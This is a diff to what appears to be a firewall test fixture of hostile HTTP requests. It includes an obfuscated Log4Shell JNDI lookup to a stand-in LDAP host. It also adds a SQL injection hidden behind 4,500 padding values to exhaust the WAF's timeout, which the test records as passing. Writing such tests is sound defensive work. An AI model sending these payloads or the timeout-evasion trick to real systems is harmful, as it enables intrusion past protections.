@@ -140,4 +140,15 @@ export const hostileRecommended: readonly HostileRequest[] = [
     { lines: ['x-any: ${${lower:j}${::-n}di:ldap://a.example/b}'] },
     byRule('sqr-000-017', 'server.request.headers.no_cookies'),
   ),
+  row(
+    'time-used-up',
+    'SQL injection: behind 4,500 values, which use up the time of the WAF (`DD_APPSEC_WAF_TIMEOUT`, here 1 ms)',
+    {
+      method: 'POST',
+      lines: ['user-agent: test', 'content-type: application/json'],
+      body: JSON.stringify([...Array.from({ length: 4_500 }, () => ''), "1' UNION SELECT a FROM b-- "]),
+    },
+    passes('rules that were not reached are not applied; see the section on limits'),
+    { setup: 'hurried' },
+  ),
 ];
